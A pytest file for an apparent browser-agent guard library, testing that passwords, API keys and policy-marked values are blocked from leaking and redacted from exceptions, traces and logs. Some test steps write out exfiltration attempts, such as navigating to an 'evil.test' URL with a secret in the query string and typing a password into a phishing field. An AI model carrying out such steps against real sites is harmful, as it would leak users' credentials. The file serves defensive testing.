"""Secrets never in clear in the guard's exceptions, traces, events or logs — whoever marked
them secret: the user (`add_secret`, `Secret`), a policy (`sensitive_data.values`), the goal
(a credential written in it), or the page (a password field)."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest
from playwright.async_api import Page

from pagewarden import ActionBlocked, Guard, PolicySet, Secret, Step, configure_logging
from pagewarden.guard import Action, GuardError
from pagewarden.observe import ElementFacts, FormFacts, FormField, Observation
from pagewarden.secrets import SecretRegistry, credentials_in_text

SECRET = "PWSECRET-7f3a9c21e4"
PASSWORD = "hunter2-correct-horse"


def _everything(exc: GuardError) -> str:
    """All an agent (and its LLM, and its logs) gets from the exception."""
    return "\n".join([str(exc), repr(exc), exc.action, json.dumps(exc.verdict.to_dict())])


@pytest.fixture
def log_file(tmp_path: Path):
    path = tmp_path / "log.jsonl"
    configure_logging(console=False, json_file=path)
    yield path
    configure_logging(console=False, json_file=None)


def _flush() -> None:
    for handler in logging.getLogger("pagewarden").handlers:
        handler.flush()


async def test_exception_does_not_carry_a_registered_secret(
    page: Page, tmp_path: Path, log_file: Path
) -> None:
    trace = tmp_path / "trace.jsonl"
    guard = Guard(goal="Sign in", trace=trace, secrets=[Secret(SECRET, allow_domains=["other.test"])])
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/login.html")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.fill("#user", SECRET)
    exc = caught.value
    assert exc.verdict.violated_policy_ids == ["PW-CREDENTIALS"]
    assert "fill '#user' '[REDACTED:" in str(exc)
    assert SECRET not in _everything(exc)
    with pytest.raises(ActionBlocked) as caught:
        await guarded.goto(f"http://evil.test/plain.html?t={SECRET}")
    assert SECRET not in _everything(caught.value)
    assert "goto 'http://evil.test/plain.html?t=[REDACTED:secret]'" in str(caught.value)
    _flush()
    assert SECRET not in trace.read_text() and SECRET not in log_file.read_text()
    assert "guard_decision" in log_file.read_text()


async def test_blocked_password_never_shown(page: Page, tmp_path: Path, log_file: Path) -> None:
    """A password typed into a phishing form is blocked before it is ever registered."""
    trace = tmp_path / "trace.jsonl"
    events: list[dict] = []
    guard = Guard(goal="Sign in as alice", trace=trace)
    guard.subscribe(lambda event: events.append(event.to_dict()))
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/login.html")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.fill("#evilpw", PASSWORD)
    assert PASSWORD not in _everything(caught.value)
    assert "[REDACTED:password]" in str(caught.value)
    await guarded.fill("#user", "alice")  # the next step carries the blocked one as `previous`
    _flush()
    assert PASSWORD not in trace.read_text()
    assert PASSWORD not in log_file.read_text()
    assert PASSWORD not in json.dumps(events)
    last = json.loads(trace.read_text().splitlines()[-1])
    assert last["step"]["previous"]["action"]["value"] == "[REDACTED:password]"


def _password_step(value: str, form_action: str) -> Step:
    form = FormFacts(action=form_action, method="get", fields=(FormField("pw", "password", value),))
    target = ElementFacts(tag="input", role="textbox", name="Password", input_type="password", form=form)
    return Step(
        action=Action("fill", "Locator.fill", "#pw", value),
        observation=Observation(url="http://app.test/login.html", target=target),
    )


def test_guard_stop_redacts_verdict_texts_with_the_typed_password() -> None:
    """An input allow-list quotes the typed text in its message: not when it is a password."""
    policies = PolicySet.from_dict(
        {
            "version": 1,
            "policies": [
                {
                    "id": "P1",
                    "category": "data",
                    "risk_level": "high",
                    "description": "only the listed values",
                    "rules": [{"input_allow": {"values": ["alice"]}}],
                }
            ],
        }
    )
    guard = Guard(policies)
    step = _password_step(PASSWORD, "http://app.test/plain.html")
    verdict = guard.evaluate(step)
    assert PASSWORD in verdict.explanation  # the raw verdict, for the guard's own use
    exc = guard.stop(step, verdict)
    assert isinstance(exc, ActionBlocked)
    assert PASSWORD not in _everything(exc)
    assert "[REDACTED:password]" in exc.verdict.explanation


POLICY_SECRET = "acct-4471-xk29-qq"


def _policy(allow_domains: list[str]) -> PolicySet:
    return PolicySet.from_dict(
        {
            "version": 1,
            "policies": [
                {
                    "id": "P-ACCT",
                    "category": "data",
                    "risk_level": "high",
                    "description": "The account number stays with the bank.",
                    "rules": [
                        {"sensitive_data": {"values": [POLICY_SECRET], "allow_domains": allow_domains}}
                    ],
                }
            ],
        }
    )


async def test_policy_values_are_redacted_like_secrets(page: Page, tmp_path: Path, log_file: Path) -> None:
    trace = tmp_path / "trace.jsonl"
    guard = Guard(_policy(["app.test"]), goal="Pay the invoice", trace=trace)
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/login.html")
    await guarded.fill("#user", POLICY_SECRET)  # the policy allows app.test
    with pytest.raises(ActionBlocked) as caught:
        await guarded.goto(f"http://evil.test/plain.html?a={POLICY_SECRET}")
    assert caught.value.verdict.violated_policy_ids[0] == "P-ACCT"
    assert POLICY_SECRET not in _everything(caught.value)
    _flush()
    text = trace.read_text()
    assert POLICY_SECRET not in text and "[REDACTED:P-ACCT-value]" in text
    assert POLICY_SECRET not in log_file.read_text()


def _submit_to(host: str, value: str) -> Step:
    target = ElementFacts(tag="input", role="textbox", name="Account", input_type="text")
    return Step(
        action=Action("fill", "Locator.fill", "#acct", value),
        observation=Observation(url=f"http://{host}/pay", target=target),
    )


def test_policy_allow_domains_apply_to_a_registered_secret() -> None:
    """The user registered the value (allowed nowhere); the policy allows it to the bank."""
    guard = Guard(_policy(["bank.test"]), secrets=[POLICY_SECRET])
    assert guard.evaluate(_submit_to("bank.test", POLICY_SECRET)).decision.value == "allow"
    blocked = guard.evaluate(_submit_to("evil.test", POLICY_SECRET))
    assert blocked.decision.value == "block"
    assert set(blocked.violated_policy_ids) == {"P-ACCT", "PW-CREDENTIALS"}
    # without the policy, a secret registered with no domains may go nowhere
    alone = Guard(secrets=[POLICY_SECRET]).evaluate(_submit_to("bank.test", POLICY_SECRET))
    assert alone.violated_policy_ids == ["PW-CREDENTIALS"]


def test_policy_values_alone_change_no_decision() -> None:
    """Redacting a policy's values does not make the baseline enforce them as well."""
    guard = Guard(_policy(["bank.test"]))
    verdict = guard.evaluate(_submit_to("evil.test", POLICY_SECRET))
    assert verdict.violated_policy_ids == ["P-ACCT"]


DEMO_GOAL = "Sign in to tracker.test as alice (password: Tr4cker-Demo-2026!) and comment 'Confirmed'."


async def test_goal_credentials_masked_from_the_first_line(
    page: Page, tmp_path: Path, log_file: Path
) -> None:
    trace = tmp_path / "trace.jsonl"
    guard = Guard(goal=DEMO_GOAL, trace=trace)
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/login.html")
    await guarded.fill("#password", "Tr4cker-Demo-2026!")  # typing it where it belongs still works
    _flush()
    lines = trace.read_text().splitlines()
    first = json.loads(lines[0])
    assert (
        first["step"]["goal"] == "Sign in to tracker.test as alice (password: [REDACTED:goal-password]) "
        "and comment 'Confirmed'."
    )
    assert "Tr4cker-Demo-2026" not in trace.read_text()
    log = [json.loads(line) for line in log_file.read_text().splitlines()]
    warnings = [e for e in log if e["event"] == "goal_contains_credentials"]
    assert len(warnings) == 1 and warnings[0]["kinds"] == ["password"]
    assert "Tr4cker-Demo-2026" not in log_file.read_text()


def test_goal_credentials_registered_by_the_user_are_not_warned_about(log_file: Path) -> None:
    Guard(goal=DEMO_GOAL, secrets=[Secret("Tr4cker-Demo-2026!", allow_domains=["tracker.test"])])
    _flush()
    assert "goal_contains_credentials" not in log_file.read_text()


def test_goal_set_later_and_goals_of_checked_steps_are_scanned(tmp_path: Path) -> None:
    trace = tmp_path / "trace.jsonl"
    guard = Guard(trace=trace)
    guard.goal = "Log in with password s3cret-Value-99"
    guard.check(guard.make_step(Action("goto", value="http://app.test/"), Observation(url="")))
    step = Step(
        action=Action("goto", value="http://app.test/"),
        observation=Observation(url=""),
        goal="Pay with card 4111 1111 1111 1111 and API key sk-proj-abcdefghijklmnopqrstuvwx",
    )
    guard.check(step)
    guard.close()
    text = trace.read_text()
    for value in ("s3cret-Value-99", "4111 1111 1111 1111", "sk-proj-abcdefghijklmnopqrstuvwx"):
        assert value not in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (DEMO_GOAL, [("password", "Tr4cker-Demo-2026!")]),
        ("use password hunter2! now", [("password", "hunter2!")]),
        ('The password is "correct horse battery".', [("password", "correct horse battery")]),
        ("password is swordfish.", [("password", "swordfish")]),
        (
            "my API key is sk-proj-abcdefghijklmnopqrstuvwx.",
            [("api_key", "sk-proj-abcdefghijklmnopqrstuvwx")],
        ),
        ("PIN 4711", [("pin", "4711")]),
        ("token: abc123xyz", [("token", "abc123xyz")]),
        ("pay with card 4111 1111 1111 1111", [("card_number", "4111 1111 1111 1111")]),
        ("Reset the password for bob", []),
        ("The password is required to sign in", []),
        ("pin the issue to the board", []),
        ("Create a project access token named 'release-ci'", []),
        ("", []),
    ],
)
def test_credentials_in_text(text: str, expected: list[tuple[str, str]]) -> None:
    assert credentials_in_text(text) == expected


def test_registry_finds_each_value_with_its_own_domains() -> None:
    """Two values with the same label keep their own allow-lists."""
    registry = SecretRegistry()
    registry.add("first-password-1", allow_domains=[".a.test"], label="typed-password")
    registry.add("second-password-2", allow_domains=[".b.test"], label="typed-password")
    (found,) = registry.find("x=first-password-1")
    assert found.allow_domains == (".a.test",)
    registry.add("redact-only-value", enforce=False)
    assert registry.find("redact-only-value") == []
    assert registry.redact("redact-only-value") == "[REDACTED:secret-3]"
    registry.add("redact-only-value")  # registered for real later: now enforced
    assert [s.value for s in registry.find("redact-only-value")] == ["redact-only-value"]


def test_secret_inside_json_text_is_redacted() -> None:
    registry = SecretRegistry(['pa"ss\\wörd-1'])
    body = json.dumps({"password": 'pa"ss\\wörd-1'})
    assert 'pa\\"ss' not in registry.redact(body)
    assert "[REDACTED:secret-1]" in registry.redact(json.dumps({"p": 'pa"ss\\wörd-1'}, ensure_ascii=False))


def test_registry_finds_enforced_values_and_redacts_all_as_values_are_added() -> None:
    """The patterns are rebuilt lazily: every value added, before or after a use, is redacted,
    and `find` reports the enforced ones only (also a value enforced after it was redacted)."""
    from pagewarden.secrets import SecretRegistry

    registry = SecretRegistry()
    for i in range(300):
        registry.add(f"policy-value-{i:04d}", enforce=False)
    text = "token tok-abcdef-1234 and policy-value-0042 sent"
    assert registry.find(text) == []
    assert "policy-value-0042" not in registry.redact(text)
    registry.add("tok-abcdef-1234", label="api")
    assert [s.label for s in registry.find(text)] == ["api"]
    assert "tok-abcdef-1234" not in registry.redact(text)
    registry.add("policy-value-0042")  # now enforced too
    assert sorted(s.value for s in registry.find(text)) == ["policy-value-0042", "tok-abcdef-1234"]
    registry.add("late-value-99999", enforce=False)
    assert registry.redact("x late-value-99999 y") == "x [REDACTED:secret-302] y"


def test_registry_redacts_as_a_longest_first_alternation_would() -> None:
    """The registry's pattern factors shared prefixes (fast with thousands of values): it still
    takes the longest registered text at each position, like an alternation sorted longest first."""
    import random
    import re

    rng = random.Random(3)
    alphabet = "ab-c%2FZ="
    values = {"".join(rng.choice(alphabet) for _ in range(rng.randint(8, 14))) for _ in range(300)}
    values |= {"prefix-value-0001", "prefix-value-0001-longer", "prefix-value-00011"}
    registry = SecretRegistry()
    for value in sorted(values):
        registry.add(value, label="s")
    variants = sorted(registry._owners, key=len, reverse=True)
    reference = re.compile("|".join(re.escape(v) for v in variants))
    texts = ["x prefix-value-0001-longer y prefix-value-00011 prefix-value-0001"]
    for _ in range(400):
        parts = [rng.choice(sorted(values))[: rng.randint(4, 14)] for _ in range(3)]
        texts.append(" ".join(parts) + "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 20))))
    for text in texts:
        expected = reference.sub(lambda m: f"[REDACTED:{registry._owners[m.group(0)]}]", text)
        got = registry._compiled().sub(lambda m: f"[REDACTED:{registry._owners[m.group(0)]}]", text)
        assert got == expected, text
